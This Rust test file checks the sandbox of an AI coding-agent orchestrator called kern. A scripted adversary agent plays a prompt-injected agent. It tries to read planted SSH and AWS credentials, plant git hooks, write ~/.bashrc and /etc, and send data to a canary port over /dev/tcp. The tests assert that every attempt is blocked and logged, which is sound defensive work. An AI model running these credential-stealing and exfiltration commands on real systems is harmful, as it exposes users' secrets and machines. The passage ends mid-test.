//! kern's fence (issue 41, DESIGN.md §19, docs/safety.md), held by an adversary: a `program:`
//! agent that, in every stage kind, tries what an injected prompt would — read a planted
//! `~/.ssh/id_ed25519` and `~/.aws/credentials` and another project's transcript, write
//! `~/.bashrc`, a file in another repository and one under `/etc` (the tests run as root),
//! write into `.git` (an object, a hook, the config), connect to a loopback canary that is not
//! allowed, go out through the proxy to a host that is not, resolve a name, look for a planted
//! `GITHUB_TOKEN`, signal a process outside its tree, hold a descriptor of kern's (the inotify
//! instance kern lends the fence's init) — and writes the same attempts as a test,
//! which the check and a `run` must-have run. Every attempt is blocked (the agent's own report
//! says so), nothing outside changed, the canary got nothing, and kern names each attempt in
//! `run.jsonl`, the stage record, the report and the review's prompt. The legitimate half —
//! edit files, build and run the project offline, reach the allowed mock model server, `git
//! status`, `git diff`, `git log` — works.
//!
//! Every fenced run here is the fence a person gets (`KernRun::default_fence`: without the
//! allowance the rest of the suite has to write beside the scenario), so the agents report
//! what they got through the one way out the fence leaves them: the adversary to the allowed
//! mock server, the others into the commit.
//!
//! Then: `--sandbox off` says so on every stage line, in the record and the report; a machine
//! where the fence cannot be made (no user namespace may be made: `user.max_user_namespaces`
//! set to 0 in a user namespace the test makes) stops a run, `kern -n` and `kern doctor` with
//! exit 2, the cause and the ways out, before any agent; the hooks of kern's commit run fenced;
//! `kern -n` prints each stage's fence; `[sandbox]` in `.kern/config.toml` hides a file of the
//! tree and lets the check run outside.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::support::http_server::{HttpServer, http_response};
use crate::support::project::Project;

/// The attempts, in the order the agent makes them, with the word its log says when one was
/// blocked (or, for the legitimate ones, when it worked).
const ATTEMPTS: &[&str] = &[
    "ssh",
    "aws",
    "transcript",
    "bashrc",
    "other",
    "etc",
    "object",
    "hook",
    "config",
    "canary",
    "proxied",
    "resolve",
    "signal",
    "env",
    "descriptor",
    "mock",
    "git",
];

/// A loopback listener that records every connection and every byte it gets.
struct Canary {
    port: u16,
    connections: Arc<AtomicUsize>,
    bytes: Arc<Mutex<Vec<u8>>>,
}

impl Canary {
    fn start() -> Canary {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let bytes = Arc::new(Mutex::new(Vec::new()));
        let (c, b) = (connections.clone(), bytes.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                c.fetch_add(1, Ordering::SeqCst);
                let mut conn = conn;
                let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let mut buf = [0u8; 1024];
                while let Ok(n) = conn.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    b.lock().unwrap().extend_from_slice(&buf[..n]);
                }
            }
        });
        Canary {
            port,
            connections,
            bytes,
        }
    }
}

/// Everything outside the repository the adversary aims at, and the allowed mock model server
/// it reports to: under the default fence it can write nothing outside the tree, so what it
/// saw reaches the test as requests (`/say/WHO/ATTEMPT/OUTCOME`), and the review says it is
/// running (`/in-review`) and asks whether to go on (`/go`) the same way.
struct Targets {
    home: tempfile::TempDir,
    other: PathBuf,
    etc: PathBuf,
    canary: Canary,
    mock: HttpServer,
    said: Arc<Mutex<Vec<String>>>,
    in_review: Arc<AtomicBool>,
    go: Arc<AtomicBool>,
    outsider: std::process::Child,
    transcript: PathBuf,
}

impl Targets {
    fn new(p: &Project) -> Targets {
        let home = tempfile::tempdir().unwrap();
        for (rel, text) in [
            (".ssh/id_ed25519", "SECRET ssh key\n"),
            (
                ".aws/credentials",
                "[default]\naws_secret_access_key = SECRET\n",
            ),
            (".bashrc", "# the person's own\n"),
        ] {
            let path = home.path().join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        // Another repository of the person's, in their home (one in `/tmp` is not even seen:
        // the fence's `/tmp` is its own).
        let other = home.path().join("src/other");
        std::fs::create_dir_all(&other).unwrap();
        std::fs::write(other.join("notes.txt"), "the person's\n").unwrap();
        // Another project's transcript in the same state root (private, as kern keeps it).
        let transcript = p.state_root().join("other-project/main/stage2.jsonl");
        std::fs::create_dir_all(transcript.parent().unwrap()).unwrap();
        std::fs::write(&transcript, "{\"SECRET\": \"what another agent read\"}\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        for dir in [
            p.state_root(),
            p.state_root().join("other-project"),
            p.state_root().join("other-project/main"),
        ] {
            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
        }
        let said = Arc::new(Mutex::new(Vec::new()));
        let in_review = Arc::new(AtomicBool::new(false));
        let go = Arc::new(AtomicBool::new(false));
        let (s, r, g) = (said.clone(), in_review.clone(), go.clone());
        let mock = HttpServer::start(Box::new(move |req| {
            let body: &[u8] = if let Some(what) = req.path.strip_prefix("/say/") {
                s.lock().unwrap().push(what.replace('/', " "));
                b"said"
            } else if req.path == "/in-review" {
                r.store(true, Ordering::SeqCst);
                b"seen"
            } else if req.path == "/go" {
                if g.load(Ordering::SeqCst) {
                    b"go-now"
                } else {
                    b"wait"
                }
            } else {
                b"mock-ok"
            };
            http_response(200, "text/plain", &[], body)
        }));
        let outsider = std::process::Command::new("sleep")
            .arg("300")
            .spawn()
            .unwrap();
        Targets {
            home,
            other,
            etc: PathBuf::from(format!("/etc/{}", crate::support::marker())),
            canary: Canary::start(),
            mock,
            said,
            in_review,
            go,
            outsider,
            transcript,
        }
    }

    fn mock_port(&self) -> u16 {
        self.mock.address().port()
    }
}

impl Drop for Targets {
    fn drop(&mut self) {
        let _ = self.outsider.kill();
        let _ = self.outsider.wait();
        for who in ["research", "implement", "commit", "check", "must-have"] {
            let _ = std::fs::remove_file(format!("{}-{who}", self.etc.display()));
        }
    }
}

/// The adversary: with an argument it only attacks (as the test it wrote, run by the check and
/// the must-have); as the agent it attacks, then does its stage's work, and in implement
/// writes itself into the tree as `attack.sh`, with a small C program it builds and runs. It
/// says what it got to the allowed mock (`get`), the one way out of the default fence.
fn adversary(t: &Targets) -> String {
    format!(
        r#"#!/bin/sh
get() {{ bash -c 'exec 3<>/dev/tcp/127.0.0.1/{mock}; printf "GET %s HTTP/1.0\r\nConnection: close\r\n\r\n" "$1" >&3; cat <&3' get "$1" 2>/dev/null; }}
say() {{ get "/say/$WHO/$1/$2" | grep -q said || echo "could not say $WHO $1 $2" >&2; }}
attack() {{
  WHO="$1"
  if cat "$HOME/.ssh/id_ed25519" 2>/dev/null | grep -q SECRET; then say ssh READ; else say ssh blocked; fi
  if cat "$HOME/.aws/credentials" 2>/dev/null | grep -q SECRET; then say aws READ; else say aws blocked; fi
  if cat '{transcript}' 2>/dev/null | grep -q SECRET; then say transcript READ; else say transcript blocked; fi
  if echo pwned >> "$HOME/.bashrc" 2>/dev/null; then say bashrc WROTE; else say bashrc blocked; fi
  if echo pwned > '{other}/pwned-'"$WHO" 2>/dev/null; then say other WROTE; else say other blocked; fi
  if echo pwned > '{etc}-'"$WHO" 2>/dev/null; then say etc WROTE; else say etc blocked; fi
  if echo "object $WHO" | git hash-object -w --stdin >/dev/null 2>&1; then say object WROTE; else say object blocked; fi
  if printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-commit 2>/dev/null; then say hook WROTE; else say hook blocked; fi
  if git config kern.pwned yes 2>/dev/null; then say config WROTE; else say config blocked; fi
  if bash -c 'exec 3<>/dev/tcp/127.0.0.1/{canary}; printf leak >&3' 2>/dev/null; then say canary REACHED; else say canary blocked; fi
  if git ls-remote https://kern-canary.invalid/x.git >/dev/null 2>&1; then say proxied REACHED; else say proxied blocked; fi
  if getent hosts kern-canary.invalid >/dev/null 2>&1; then say resolve RESOLVED; else say resolve blocked; fi
  if kill -0 {outsider} 2>/dev/null; then say signal REACHED; else say signal blocked; fi
  if env | grep -q GITHUB_TOKEN; then say env SEEN; else say env blocked; fi
  if for fd in /proc/$$/fd/*; do readlink "$fd"; done | grep -q inotify; then say descriptor INHERITED; else say descriptor blocked; fi
  if get / | grep -q mock-ok; then say mock ok; else say mock FAILED; fi
  if git status --porcelain >/dev/null && git diff >/dev/null && git log --oneline >/dev/null; then say git ok; else say git FAILED; fi
}}
if [ -n "$1" ]; then attack "$1"; exit 0; fi
attack "$KERN_STAGE"
case "$KERN_STAGE" in
  research)
    printf '```json\n{{"notes": ["read the task"]}}\n```\n' ;;
  implement)
    cp "$0" attack.sh
    mkdir -p src
    printf 'int main(void) {{ return 0; }}\n' > src/hello.c
    if mkdir -p build && cc -o build/hello src/hello.c && ./build/hello; then say build ok; else say build FAILED; fi
    echo SUCCESS ;;
  commit)
    get /in-review >/dev/null
    until get /go | grep -q go-now; do sleep 0.05; done
    printf '```json\n{{"verdict": "COMMIT", "subject": "Add the program"}}\n```\n' ;;
esac
"#,
        transcript = t.transcript.display(),
        other = t.other.display(),
        etc = t.etc.display(),
        canary = t.canary.port,
        outsider = t.outsider.id(),
        mock = t.mock_port(),
    )
}

/// What the adversary said `who` got for each attempt.
fn attempts(t: &Targets, who: &str) -> Vec<(String, String)> {
    t.said
        .lock()
        .unwrap()
        .iter()
        .filter_map(|line| {
            let mut words = line.split_whitespace();
            (words.next()? == who).then(|| {
                (
                    words.next().unwrap_or("").to_string(),
                    words.next().unwrap_or("").to_string(),
                )
            })
        })
        .collect()
}

/// The targets of the `denied` events of `run.jsonl` by `by`, as `kind target`.
fn denied(p: &Project, by: &str) -> Vec<String> {
    p.run_events("denied")
        .iter()
        .filter(|e| e["by"] == by)
        .flat_map(|e| e["denied"].as_array().cloned().unwrap_or_default())
        .map(|d| {
            format!(
                "{} {}",
                d["kind"].as_str().unwrap_or(""),
                d["target"].as_str().unwrap_or("")
            )
        })
        .collect()
}

/// The project the adversary works in: one task whose must-have runs the test it writes.
fn adversarial_project() -> (Project, PathBuf) {
    let p = Project::new("- [ ] Write the program\n  > **Must:** run sh attack.sh must-have\n");
    p.write(".gitignore", "build/\n");
    p.commit_all("ignore build output");
    let agent = p.outside.path().join("adversary.sh");
    (p, agent)
}

#[test]
fn every_attempt_outside_the_room_is_blocked_and_named_in_every_stage_check_and_must_have() {
    let (p, agent) = adversarial_project();
    let t = Targets::new(&p);
    std::fs::write(&agent, adversary(&t)).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    let stderr = p.outside.path().join("kern.stderr");
    let mut child = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &format!("program:{}", agent.display())])
        .args(["--check", "sh attack.sh check", "--check-baseline", "skip"])
        .env("HOME", t.home.path())
        .env("GITHUB_TOKEN", "ghp_planted_by_the_test")
        .env(
            "KERN_SANDBOX_ALLOW_HOSTS",
            format!("127.0.0.1:{}", t.mock_port()),
        )
        .spawn_with(
            std::process::Stdio::null(),
            std::fs::File::create(&stderr).unwrap(),
        );
    // During the review: implement's record is there, with what its fence did.
    while !t.in_review.load(Ordering::SeqCst) {
        if let Some(status) = child.try_wait().unwrap() {
            panic!(
                "kern ended ({status}) before the review:\n{}",
                std::fs::read_to_string(&stderr).unwrap_or_default()
            );
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let record: Value =
        serde_json::from_str(&std::fs::read_to_string(p.state_dir().join("stage2.json")).unwrap())
            .unwrap();
    let prompt = std::fs::read_to_string(p.state_dir().join("stage3.prompt.md")).unwrap();
    t.go.store(true, Ordering::SeqCst);
    let status = child.wait().unwrap();
    let err = std::fs::read_to_string(&stderr).unwrap_or_default();
    assert_eq!(status.code(), Some(0), "{err}");
    assert_eq!(p.log()[0], "Add the program", "{err}");

    // Every attempt blocked, as the adversary saw it, in every place it ran.
    for who in ["research", "implement", "commit", "check", "must-have"] {
        let got: Vec<(String, String)> = attempts(&t, who)
            .into_iter()
            .filter(|(a, _)| a != "build")
            .collect();
        let names: Vec<&str> = got.iter().map(|(a, _)| a.as_str()).collect();
        assert_eq!(names, ATTEMPTS, "{who}: {got:?}\n{err}");
        for (attempt, outcome) in &got {
            let want = if matches!(attempt.as_str(), "mock" | "git") {
                "ok"
            } else {
                "blocked"
            };
            assert_eq!(outcome, want, "{who} {attempt}: {got:?}\n{err}");
        }
    }
    // The project builds and its program runs, offline, inside the fence.
    assert!(
        attempts(&t, "implement").contains(&("build".to_string(), "ok".to_string())),
        "{err}"
    );

    // Nothing outside changed; the canary got nothing; the outsider lives.
    assert_eq!(
        std::fs::read_to_string(t.home.path().join(".bashrc")).unwrap(),
        "# the person's own\n"
    );
    let other: Vec<_> = std::fs::read_dir(&t.other).unwrap().collect();
    assert_eq!(other.len(), 1, "only notes.txt: {other:?}");
    for who in ["research", "implement", "commit", "check", "must-have"] {
        assert!(!Path::new(&format!("{}-{who}", t.etc.display())).exists());
    }
    assert!(!p.path().join(".git/hooks/post-commit").exists());
    let pwned = std::process::Command::new("git")
        .args(["config", "--get", "kern.pwned"])
        .current_dir(p.path())
        .status()
        .unwrap();
    assert_eq!(pwned.code(), Some(1), "kern.pwned is not set");
    assert_eq!(t.canary.connections.load(Ordering::SeqCst), 0);
    assert!(t.canary.bytes.lock().unwrap().is_empty());
    assert!(
        !crate::support::is_dead(t.outsider.id() as i32),
        "the process outside was signalled"
    );

    // kern named every attempt, by whom.
    let home = t.home.path().display().to_string();
    let repo = p.path().display().to_string();
    for by in ["research", "implement", "commit", "check", "must-have"] {
        let named = denied(&p, by);
        let has = |what: &str| named.iter().any(|n| n.starts_with(what));
        for what in [
            format!("read {home}/.ssh/id_ed25519"),
            format!("read {home}/.aws/credentials"),
            format!("read {}", t.transcript.display()),
            format!("write {home}/.bashrc"),
            format!("write {}/pwned-{by}", t.other.display()),
            format!("write {}-{by}", t.etc.display()),
            format!("write {repo}/.git/objects"),
            format!("write {repo}/.git/hooks/post-commit"),
            format!("write {repo}/.git/config"),
            format!("connect 127.0.0.1:{}", t.canary.port),
            "connect kern-canary.invalid:443".to_string(),
            "resolve a host name".to_string(),
            format!("signal pid {}", t.outsider.id()),
        ] {
            assert!(has(&what), "{by} did not name `{what}`: {named:?}\n{err}");
        }
        assert!(
            !named
                .iter()
                .any(|n| n.contains(&format!(":{}", t.mock_port()))),
            "{by}: the allowed mock is no denial: {named:?}"
        );
    }
    let fence = &record["kern"]["sandbox"];
    assert_eq!(fence["mode"], "kern", "{record}");
    assert_eq!(fence["network"], "list");
    assert!(
        fence["hosts"]
            .as_array()
            .unwrap()
            .contains(&json!(format!("127.0.0.1:{}", t.mock_port()))),
        "{fence}"
    );
    assert!(
        fence["env_dropped"]
            .as_array()
            .unwrap()
            .contains(&json!("GITHUB_TOKEN")),
        "{fence}"
    );
    assert!(
        fence["denied"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["kind"] == "read"
                && d["target"] == json!(format!("{home}/.ssh/id_ed25519"))),
        "{fence}"
    );
    // The review was told; the morning report lists them by task; the stage lines count them.
    assert!(
        prompt.contains("kern's fence denied these attempts")
            && prompt.contains("implement: tried to read ~/.ssh/id_ed25519"),
        "{prompt}"
    );
    assert!(err.contains("[fence denied"), "{err}");
    let report = p.run(&["report"]).expect(0).stdout;
    assert!(
        report.contains(&format!(
            "fence denied implement: tried to read {home}/.ssh/id_ed25519"
        )),
        "{report}"
    );
}

#[test]
fn sandbox_off_runs_unfenced_and_says_so_on_every_stage_line_in_the_record_and_the_report() {
    let p = Project::new("- [ ] Unfenced\n");
    let started = p.outside.path().join("in-review");
    let go = p.outside.path().join("go");
    p.scenario(&json!({"default": {
        "implement": {"write": {"out/{slug}.txt": "done\n"}},
        "commit": {
            "shell": [format!("touch {}; while [ ! -f {} ]; do sleep 0.05; done", started.display(), go.display())],
            "result": {"verdict": "COMMIT", "subject": "Add {slug}"}
        }
    }}));
    let child = p.run(&["1", "0", "--sandbox=off"]).spawn();
    crate::support::wait_for_file(&started);
    let record: Value =
        serde_json::from_str(&std::fs::read_to_string(p.state_dir().join("stage2.json")).unwrap())
            .unwrap();
    std::fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(
        record["kern"]["sandbox"],
        json!({"mode": "off", "denied": []})
    );
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| {
            ["✓ research", "✓ implement", "✓ commit"]
                .iter()
                .any(|s| l.contains(s))
        })
        .collect();
    assert_eq!(lines.len(), 3, "{err}");
    for line in lines {
        assert!(line.ends_with("[unfenced: --sandbox off]"), "{line}");
    }
    let report = p.run(&["report"]).expect(0).stdout;
    assert!(
        report.contains("the agents ran unfenced (--sandbox off)"),
        "{report}"
    );
}

/// `sh -c` that makes no user namespace possible for what it runs: a user namespace of its own
/// (as root inside, as `unshare` makes it) with `user.max_user_namespaces` set to 0 in it.
const NO_USER_NAMESPACES: &[&str] = &[
    "unshare",
    "--user",
    "--map-root-user",
    "sh",
    "-c",
    "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"",
    "sh",
];

#[test]
fn where_the_fence_cannot_be_made_a_run_the_dry_run_and_doctor_stop_with_exit_2_and_the_fix() {
    let p = Project::new("- [ ] Never started\n");
    let ran = p.outside.path().join("agent-ran");
    p.scenario(&json!({"default": {
        "research": {"shell": [format!("touch {}", ran.display())]},
        "implement": {"write": {"out/{slug}.txt": "done\n"}}
    }}));
    let fix = [
        "kern's fence cannot be made here",
        "user.max_user_namespaces",
        "sysctl -w user.max_user_namespaces=15000",
        "container or VM",
        "--sandbox off",
    ];
    let run = p
        .run(&["1", "0"])
        .default_fence()
        .wrapped_in(NO_USER_NAMESPACES)
        .expect(2);
    for part in fix {
        assert!(run.stderr.contains(part), "{part}: {}", run.stderr);
    }
    assert!(!ran.exists(), "no agent may start unfenced");
    assert!(p.run_events("stage_start").is_empty(), "no stage began");
    let dry = p
        .run(&["-n"])
        .default_fence()
        .wrapped_in(NO_USER_NAMESPACES)
        .expect(2);
    for part in fix {
        assert!(dry.stderr.contains(part), "{part}: {}", dry.stderr);
    }
    let doctor = p
        .run(&["doctor"])
        .default_fence()
        .wrapped_in(NO_USER_NAMESPACES)
        .expect(2);
    assert!(
        doctor
            .stderr
            .contains("✗ sandbox: kern's fence cannot be made here"),
        "{}",
        doctor.stderr
    );
    // Knowingly unfenced, the same machine runs.
    let off = p
        .run(&["1", "0", "--sandbox=off"])
        .wrapped_in(NO_USER_NAMESPACES)
        .expect(0);
    assert!(ran.exists(), "{}", off.stderr);
}

/// A `program:` agent for the fence's own tests (the scripted agent keeps its counts outside
/// the tree, which the default fence does not let it write): research answers, implement runs
/// `implement` (a shell script) in the tree, the review commits.
fn plain_agent(p: &Project, implement: &str) -> String {
    let agent = p.outside.path().join("plain-agent.sh");
    std::fs::write(
        &agent,
        format!(
            "#!/bin/sh\n\
             case \"$KERN_STAGE\" in\n\
             research) printf '```json\\n{{\"notes\": [\"read the task\"]}}\\n```\\n' ;;\n\
             implement) {implement}\n  echo SUCCESS ;;\n\
             commit) printf '```json\\n{{\"verdict\": \"COMMIT\", \"subject\": \"Do it\"}}\\n```\\n' ;;\n\
             esac\n"
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    format!("program:{}", agent.display())
}

#[test]
fn the_commits_hooks_run_fenced_committing_but_reaching_nothing_outside() {
    let p = Project::new("- [ ] Hooked\n");
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "SECRET\n").unwrap();
    std::fs::write(home.path().join(".bashrc"), "# the person's own\n").unwrap();
    // Another repository in the person's home, and one in the machine's `/tmp`.
    let other = home.path().join("src/other");
    std::fs::create_dir_all(&other).unwrap();
    let in_tmp = tempfile::tempdir().unwrap();
    // The hook lives in the tree (as husky's do): code the agent could have written. What it
    // got it writes into the file it adds, so the commit carries it out of the fence.
    p.write(
        ".hooks/pre-commit",
        &format!(
            "#!/bin/sh\n\
             {{\n\
             if cat \"$HOME/.ssh/id_ed25519\" 2>/dev/null | grep -q SECRET; then echo ssh READ; else echo ssh blocked; fi\n\
             if echo pwned >> \"$HOME/.bashrc\" 2>/dev/null; then echo bashrc WROTE; else echo bashrc blocked; fi\n\
             if echo pwned > {other}/pwned 2>/dev/null; then echo other WROTE; else echo other blocked; fi\n\
             if echo pwned > {in_tmp}/pwned 2>/dev/null; then echo tmp WROTE; else echo tmp blocked; fi\n\
             if echo x > .git/hooks/post-checkout 2>/dev/null; then echo hook WROTE; else echo hook blocked; fi\n\
             if git config kern.pwned yes 2>/dev/null; then echo config WROTE; else echo config blocked; fi\n\
             }} > formatted.txt\n\
             git add formatted.txt\n",
            other = other.display(),
            in_tmp = in_tmp.path().display()
        ),
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        p.path().join(".hooks/pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    p.git(&["config", "core.hooksPath", ".hooks"]);
    p.commit_all("hooks");
    let out = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &plain_agent(&p, "echo done > done.txt")])
        .env("HOME", home.path())
        .expect(0);
    assert_eq!(
        p.git(&["show", "HEAD:formatted.txt"]),
        "ssh blocked\nbashrc blocked\nother blocked\ntmp blocked\nhook blocked\nconfig blocked\n",
        "{}",
        out.stderr
    );
    assert!(p.head_files().contains(&"done.txt".to_string()));
    assert_eq!(
        std::fs::read_to_string(home.path().join(".bashrc")).unwrap(),
        "# the person's own\n"
    );
    assert!(!other.join("pwned").exists());
    assert!(!in_tmp.path().join("pwned").exists());
    assert!(!p.path().join(".git/hooks/post-checkout").exists());
    let named = denied(&p, "hook");
    let home = home.path().display().to_string();
    for what in [
        format!("read {home}/.ssh/id_ed25519"),
        format!("write {home}/.bashrc"),
        format!("write {}/pwned", other.display()),
    ] {
        assert!(named.contains(&what), "{what}: {named:?}");
    }
    assert!(
        named
            .iter()
            .any(|n| n.starts_with(&format!("write {}/.git/hooks", p.path().display()))),
        "{named:?}"
    );
}

#[test]
fn the_machines_tmp_is_the_stages_own_others_files_unseen_and_its_writes_kept_in() {
    // Another process's file in the machine's `/tmp`, and a folder of its there.
    let tmp = std::env::temp_dir();
    let marker = crate::support::marker();
    let secret = tmp.join(format!("{marker}-secret"));
    std::fs::write(&secret, "SECRET of another process\n").unwrap();
    let theirs = tempfile::tempdir().unwrap();
    std::fs::write(theirs.path().join("notes.txt"), "SECRET too\n").unwrap();
    let written = tmp.join(format!("{marker}-written"));
    let p = Project::new("- [ ] Use /tmp\n");
    // Each stage writes `/tmp` directly (as agents and Codex do, TMPDIR or not), reads it
    // back, and looks for the others' files; what it saw goes into the commit.
    let implement = format!(
        "{{ \
         if cat '{secret}' 2>/dev/null | grep -q SECRET; then echo secret READ; else echo secret unseen; fi; \
         if cat '{theirs}/notes.txt' 2>/dev/null | grep -q SECRET; then echo theirs READ; else echo theirs unseen; fi; \
         if echo mine > '{written}' && grep -q mine '{written}'; then echo write ok; else echo write FAILED; fi; \
         if ls /tmp | grep -q '{marker}-secret'; then echo listed SEEN; else echo listed unseen; fi; \
         }} > tmp.txt",
        secret = secret.display(),
        theirs = theirs.path().display(),
        written = written.display(),
    );
    let out = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &plain_agent(&p, &implement)])
        .expect(0);
    let _ = std::fs::remove_file(&secret);
    assert_eq!(
        p.git(&["show", "HEAD:tmp.txt"]),
        "secret unseen\ntheirs unseen\nwrite ok\nlisted unseen\n",
        "{}",
        out.stderr
    );
    assert!(!written.exists(), "the stage's /tmp reached the machine's");
}

#[test]
fn a_read_only_stage_writes_only_its_private_layer_and_the_tree_never_changes() {
    let p = Project::new("- [ ] Look first\n");
    let agent = p.outside.path().join("layer-agent.sh");
    // Research and review edit a tracked file, create one, build into `target/` and read it
    // all back (their layer is theirs to use); `.git` stays read-only under the layer. What
    // research saw reaches implement's prompt (its notes), which implement commits.
    let tries = r"if echo changed >> README.md && echo new > new.txt && mkdir -p target && echo o > target/out && grep -q changed README.md && [ -f target/out ]; then w=wrote; else w=FAILED; fi
  if echo x > .git/hooks/post-checkout 2>/dev/null; then g=WROTE; else g=blocked; fi";
    std::fs::write(
        &agent,
        format!(
            "#!/bin/sh\n\
             case \"$KERN_STAGE\" in\n\
             research) {tries}\n  printf '```json\\n{{\"notes\": [\"research layer %s, git %s\"]}}\\n```\\n' \"$w\" \"$g\" ;;\n\
             implement) cat > prompt.txt; echo SUCCESS ;;\n\
             commit) {tries}\n  [ \"$w $g\" = \"wrote blocked\" ] || exit 3\n  printf '```json\\n{{\"verdict\": \"COMMIT\", \"subject\": \"Look\"}}\\n```\\n' ;;\n\
             esac\n"
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &format!("program:{}", agent.display())])
        .expect(0);
    let err = &out.stderr;
    assert_eq!(p.log()[0], "Look", "{err}");
    assert!(
        p.git(&["show", "HEAD:prompt.txt"])
            .contains("research layer wrote, git blocked"),
        "{err}"
    );
    // The tree as it was: nothing to revert, nothing saved, no violation.
    assert_eq!(p.read("README.md"), "# scratch\n");
    assert!(!p.path().join("new.txt").exists());
    assert!(!p.path().join("target").exists());
    assert!(p.refs("refs/kern/saved/").is_empty(), "{err}");
    assert!(p.run_events("violation").is_empty(), "{err}");
    assert!(!p.path().join(".git/hooks/post-checkout").exists());
    // The layer's writes are the stage's own: no denial; `.git` is still refused, and named.
    for by in ["research", "commit"] {
        let named = denied(&p, by);
        assert!(
            named
                .iter()
                .any(|n| n.starts_with("write ") && n.contains(".git/hooks/post-checkout")),
            "{by}: {named:?}"
        );
        assert!(
            !named
                .iter()
                .any(|n| n.contains("README.md") || n.contains("new.txt")),
            "{by}: {named:?}"
        );
    }
}

#[test]
fn the_dry_run_prints_each_stages_fence_and_that_it_can_be_made_here() {
    let p = Project::new("- [ ] Look around\n");
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    let out = p
        .run(&["-n"])
        .default_fence()
        .env("HOME", home.path())
        .env("KERN_SANDBOX_ALLOW_HOSTS", "registry.npmjs.org")
        .expect(0);
    let report = &out.stdout;
    assert!(
        report.contains("sandbox:     kern — every agent and whatever runs its code fenced, network list (✓ made here in"),
        "{report}"
    );
    let top = p.path().canonicalize().unwrap();
    for line in [
        "  fence:   kern, network list".to_string(),
        // A `program:` agent may be the scripted agent: its books' folder in the state folder.
        format!(
            "    writable:  {}, {}/scripted-agent and a private TMPDIR",
            top.display(),
            p.state_dir().display()
        ),
        format!("    read-only: {}/.git", top.display()),
        "    hidden:    ~/.ssh".to_string(),
        "    temporary: /tmp, /var/tmp, /dev/shm (empty and the stage's own; what it needs there is bound in)"
            .to_string(),
        "    hosts:     registry.npmjs.org".to_string(),
    ] {
        assert!(report.contains(&line), "{line}:\n{report}");
    }
    assert!(
        report.contains("check gate: none (no --check, no Check note)"),
        "{report}"
    );
    let off = p
        .run(&["-n", "--sandbox=off"])
        .default_fence()
        .expect(0)
        .stdout;
    assert!(
        off.contains("sandbox:     off — no fence: the agents run with your whole account")
            && off.contains("  fence:   none (--sandbox off)"),
        "{off}"
    );
}

#[test]
fn the_settings_files_sandbox_table_hides_a_file_of_the_tree_and_lets_the_check_run_outside() {
    let p = Project::new("- [ ] Use the token\n");
    p.write("deploy.token", "SECRET in the tree\n");
    p.write(
        ".kern/config.toml",
        "[sandbox]\nhide = [\"deploy.token\"]\nchecks = \"outside\"\n",
    );
    p.commit_all("a token and the settings");
    let dry = p.run(&["-n"]).default_fence().expect(0).stdout;
    assert!(
        dry.contains("check gate: none (no --check, no Check note) — outside the fence ([sandbox] checks = \"outside\")"),
        "{dry}"
    );
    // What the agent read of it goes into the commit.
    let agent = plain_agent(&p, "cat deploy.token > seen.txt 2>&1 || true");
    // The check (outside the fence, as the table says) reads what the agent could not.
    let out = p
        .run(&["1", "0", "--check", "grep -q SECRET deploy.token"])
        .default_fence()
        .args(["--agent", &agent])
        .expect(0);
    assert_eq!(
        p.git(&["show", "HEAD:seen.txt"]),
        "",
        "the agent read it: {}",
        out.stderr
    );
    let named = denied(&p, "implement");
    assert!(
        named.contains(&format!(
            "read {}/deploy.token",
            p.path().canonicalize().unwrap().display()
        )),
        "{named:?}"
    );
    assert!(
        denied(&p, "check").is_empty(),
        "the check ran outside the fence"
    );
}

#[test]
fn cargo_takes_its_locks_in_the_private_cargo_home_and_its_credentials_stay_hidden() {
    // Cargo takes `.package-cache` and `.global-cache` at the top of its home, not in
    // `registry/`: every fenced `cargo test` was a denied write, warned of at each stage and
    // check. Its binaries stay usable, its credentials hidden, and the person's folder unchanged.
    let home = tempfile::tempdir().unwrap();
    let cargo = home.path().join(".cargo");
    std::fs::create_dir_all(cargo.join("bin")).unwrap();
    std::fs::create_dir_all(cargo.join("registry")).unwrap();
    std::fs::write(cargo.join("bin/cargo-tool"), "a tool\n").unwrap();
    std::fs::write(cargo.join("credentials.toml"), "SECRET token\n").unwrap();
    let p = Project::new("- [ ] Build\n");
    let implement = "{ \
         if touch \"$HOME/.cargo/.package-cache\" \"$HOME/.cargo/.global-cache\" \"$HOME/.cargo/registry/index\"; then echo locks ok; else echo locks FAILED; fi; \
         if grep -q tool \"$HOME/.cargo/bin/cargo-tool\"; then echo bin seen; else echo bin UNSEEN; fi; \
